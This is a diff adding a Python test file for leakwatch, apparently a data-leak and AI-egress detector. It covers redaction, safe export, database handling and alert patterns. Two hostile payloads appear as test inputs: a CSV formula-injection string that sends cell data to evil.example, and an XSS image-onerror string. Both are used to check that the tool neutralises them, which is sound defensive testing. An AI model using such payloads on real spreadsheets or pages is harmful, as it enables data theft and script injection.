@@ -1,0 +1,188 @@
+"""Cases two reviewers built by hand against export, flows and the failure patterns (each failed
+before its fix): raw values in field paths, an export that replaced the database or a named pipe,
+spreadsheet formulas in CSV cells, HTML in the flows table, a foreign DuckDB file, BulkApi2 row
+counts, gateway calls taken for bypasses, CDN error responses and Fastly edges in P4."""
+from __future__ import annotations
+
+import csv
+import io
+import os
+import threading
+
+import duckdb
+import pytest
+from helpers import read_rows
+from test_patterns_e2e import elf_csv, patterns_of, scan
+
+from leakwatch.detect.context import data_like_key
+from leakwatch.detect.enrich import safe_field_path
+from leakwatch.errors import StoreError
+from leakwatch.flows import _md
+from leakwatch.pipeline import scan_paths
+from leakwatch.store import Store
+
+
+@pytest.mark.parametrize("key", ["4111 1111 1111 1111", "123-45-6789", "+1 415-555-0134", "DE89 3704 0044 0532 0130 00",
+                                 "(415) 555-0134"])
+def test_grouped_digits_as_a_key_are_data(key):
+    assert data_like_key(key)
+    assert safe_field_path(f"cards.{key}.email", True) == "cards.*.email"
+
+
+@pytest.mark.parametrize("key", ["messages[0].content", "address_line_2", "v1.2.3", "ipv4", "order_id"])
+def test_field_names_with_a_few_digits_stay(key):
+    assert not data_like_key(key)
+
+
+def _scan_json_keys(tmp_path, keys: list[str], top: bool = False):
+    log = tmp_path / "app.jsonl"
+    line = '{"ts":"2024-03-11T16:00:00Z","%s":{"email":"gina.r%d@example.com"}}\n' if top else \
+        '{"ts":"2024-03-11T16:00:00Z","cards":{"%s":{"email":"gina.r%d@example.com"}}}\n'
+    log.write_text("".join(line % (k.replace('"', '\\"'), i) for i, k in enumerate(keys)))
+    db = tmp_path / "lw.duckdb"
+    scan_paths([str(log)], db)
+    return db
+
+
+def test_a_card_number_as_a_json_key_is_not_stored_or_exported(tmp_path, cli):
+    db = _scan_json_keys(tmp_path, ["4111 1111 1111 1111"])
+    assert read_rows(db, "SELECT field_path FROM findings WHERE entity = 'EMAIL_ADDRESS'") == [("cards.*.email",)]
+    assert not read_rows(db, "SELECT field FROM findings WHERE field LIKE '%4111%' OR field_path LIKE '%4111%'")
+    r = cli("export", "--db", db, "--format", "csv")
+    assert r.rc == 0 and "4111" not in r.out and "cards.*.email" in r.out
+
+
+def test_csv_export_neutralises_formulas(tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    db = _scan_json_keys(tmp_path, [formula], top=True)
+    out = tmp_path / "f.csv"
+    from leakwatch.cli import main
+    assert main(["export", "--db", str(db), "--format", "csv", "--out", str(out)]) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text())))
+    assert rows and all(not (v or "").startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+    assert any(r["field_path"].startswith("'=HYPERLINK") for r in rows)
+
+
+def test_export_refuses_to_overwrite_its_own_database(tmp_path, cli):
+    db = _scan_json_keys(tmp_path, ["contact"])
+    before = db.read_bytes()
+    for target in (db, tmp_path / "lw.duckdb.key"):
+        r = cli("export", "--db", db, "--format", "jsonl", "--out", target)
+        assert r.rc == 2 and "database's own file" in r.err
+    assert db.read_bytes() == before
+    assert read_rows(db, "SELECT count(*) FROM findings") == [(1,)]
+
+
+def test_export_into_a_named_pipe_writes_into_the_pipe(tmp_path, cli):
+    db = _scan_json_keys(tmp_path, ["contact", "customer"])
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    got = []
+    reader = threading.Thread(target=lambda: got.append(open(fifo).read()))
+    reader.start()
+    r = cli("export", "--db", db, "--format", "jsonl", "--out", fifo)
+    reader.join(10)
+    assert r.rc == 0
+    assert len(got[0].splitlines()) == 2
+    assert os.path.exists(fifo) and not os.path.isfile(fifo)  # still the pipe
+
+
+def test_export_through_a_symlink_replaces_the_target_and_keeps_the_link(tmp_path, cli):
+    db = _scan_json_keys(tmp_path, ["contact"])
+    target = tmp_path / "real.jsonl"
+    target.write_text("old\n")
+    link = tmp_path / "link.jsonl"
+    link.symlink_to(target)
+    assert cli("export", "--db", db, "--format", "jsonl", "--out", link).rc == 0
+    assert link.is_symlink() and "gina" not in target.read_text() and target.read_text().count("\n") == 1
+
+
+def test_flows_markdown_cells_make_html_literal():
+    assert _md("<img src=x onerror=alert(1)> & |") == "&lt;img src=x onerror=alert(1)&gt; &amp; \\|"
+
+
+def test_a_foreign_duckdb_file_is_refused_untouched(tmp_path):
+    path = tmp_path / "analytics.duckdb"
+    con = duckdb.connect(str(path))
+    con.execute("CREATE TABLE orders (id INTEGER)")
+    con.close()
+    for read_only in (False, True):
+        with pytest.raises(StoreError, match="not leakwatch's"):
+            Store.open(path, read_only=read_only)
+    con = duckdb.connect(str(path), read_only=True)
+    assert [t for (t,) in con.execute("SELECT table_name FROM information_schema.tables").fetchall()] == ["orders"]
+    con.close()
+
+
+def test_a_file_name_that_is_not_utf8_in_argv(tmp_path):
+    name = os.fsdecode(b"caf\xe9.jsonl")
+    log = tmp_path / name
+    log.write_text('{"email":"kim@example.com"}\n')
+    db = tmp_path / "lw.duckdb"
+    s = scan_paths([str(log)], db, argv=["scan", str(log)])
+    assert s.total_findings == 1
+    [(argv,)] = read_rows(db, "SELECT argv FROM scans")
+    assert "caf\\xe9.jsonl" in argv
+
+
+BULK2 = ["EVENT_TYPE", "TIMESTAMP", "USER_ID", "ENTITY_TYPE", "OPERATION_TYPE", "RECORDS_PROCESSED",
+         "TIMESTAMP_DERIVED", "USER_ID_DERIVED"]
+CALLOUT = ["EVENT_TYPE", "TIMESTAMP", "USER_ID", "METHOD", "STATUS_CODE", "URL", "TIMESTAMP_DERIVED"]
+
+
+def test_bulkapi2_records_processed_is_the_row_count_p2_reads(tmp_path):
+    user = "0055j00000AT6I1"
+    s = scan(tmp_path, {
+        "EventLogFile_BulkApi2_2024-03-11.csv": elf_csv(BULK2, [{
+            "EVENT_TYPE": "BulkApi2", "TIMESTAMP": "20240311160500.000", "USER_ID": user, "ENTITY_TYPE": "Contact",
+            "OPERATION_TYPE": "query", "RECORDS_PROCESSED": "48210", "TIMESTAMP_DERIVED": "2024-03-11T16:05:00.000Z",
+            "USER_ID_DERIVED": user + "AAL"}]),
+        "EventLogFile_ApexCallout_2024-03-11.csv": elf_csv(CALLOUT, [{
+            "EVENT_TYPE": "ApexCallout", "TIMESTAMP": "20240311162000.000", "USER_ID": user, "METHOD": "POST",
+            "STATUS_CODE": "200", "URL": "https://api.openai.com/v1/chat/completions",
+            "TIMESTAMP_DERIVED": "2024-03-11T16:20:00.000Z"}]),
+    })
+    assert read_rows(s.db, "SELECT rows_processed FROM events WHERE kind = 'bulk'") == [(48210,)]
+    assert "P2_bulk_then_ai" in patterns_of(s)
+
+
+def test_an_app_calling_the_gateway_url_with_the_vendor_as_upstream_goes_through_it(tmp_path):
+    s = scan(tmp_path, {"apps/orders.jsonl": (
+        '{"ts":"2024-03-11T16:00:00Z","user":"svc-orders","url":"https://ai-gw.acme.internal/openai/v1/chat",'
+        '"upstream":"https://api.openai.com/v1/chat/completions","status":200}\n'
+        '{"ts":"2024-03-11T16:02:00Z","user":"svc-billing","url":"https://api.openai.com/v1/chat/completions",'
+        '"status":200}\n')}, '[egress]\napproved_gateways = ["ai-gw.acme.internal"]\n')
+    assert read_rows(s.db, "SELECT line, url_host, via_gateway FROM events WHERE kind = 'ai_call' ORDER BY line") == [
+        (1, "api.openai.com", True), (2, "api.openai.com", False)]
+    [alert] = s.alerts("P1_gateway_bypass")
+    assert alert["evidence"]["events"] == s.event_ids("apps/orders.jsonl", "ai_call", [2])
+
+
+def _cdn(path: str, status: int, edge: str) -> str:
+    return (f'198.51.100.7 - - [11/Mar/2024:16:00:02 +0000] "GET {path} HTTP/1.1" {status} 5120 "-" '
+            f'"Mozilla/5.0" MISS pop={edge}\n')
+
+
+def test_p4_counts_only_responses_that_served_content(tmp_path):
+    s = scan(tmp_path, {"cdn/shop-access.log": _cdn("/genai/summary/1", 404, "NRT57-P2") +
+                        _cdn("/genai/summary/2", 503, "NRT57-P2")})
+    assert read_rows(s.db, "SELECT count(*) FROM events WHERE kind = 'cdn_ai'") == [(2,)]  # seen, not alerted
+    assert patterns_of(s) == []
+    s = scan(tmp_path / "b", {"cdn/shop-access.log": _cdn("/genai/summary/1", 200, "NRT57-P2")})
+    assert patterns_of(s) == ["P4_cdn_region"]
+
+
+def test_p4_allowed_regions_accept_a_fastly_edge_by_its_airport_code(tmp_path):
+    files = {"cdn/shop-access.log": _cdn("/genai/summary/1", 200, "cache-fra-eddf8230042-FRA")}
+    assert patterns_of(scan(tmp_path, files, '[cdn]\nallowed_regions = ["FRA"]\n')) == []
+    assert patterns_of(scan(tmp_path / "b", files, '[cdn]\nallowed_regions = ["CDG"]\n')) == ["P4_cdn_region"]
+
+
+def test_the_registry_places_every_edge_the_default_table_knows():
+    from leakwatch.detect.egress import load_registry
+    from leakwatch.detect.patterns import DEFAULT_EDGE_JURISDICTIONS
+
+    reg = load_registry()
+    missing = {code: jur for code, jur in DEFAULT_EDGE_JURISDICTIONS.items()
+               if (reg.edge_jurisdiction(f"{code}50-P1") or "").upper() != jur}
+    assert not missing
